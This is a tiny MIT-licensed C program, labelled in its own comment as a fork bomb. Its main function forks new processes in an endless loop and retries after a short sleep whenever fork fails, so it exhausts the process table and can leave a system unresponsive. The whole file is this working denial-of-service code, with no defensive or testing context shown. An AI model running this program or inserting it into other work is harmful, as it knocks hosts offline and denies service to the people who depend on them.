/* SPDX-License-Identifier: MIT */
/* A fork bomb. */
#include <unistd.h>

int main(void)
{
	for (;;)
		if (fork() < 0)
			usleep(1000);
}
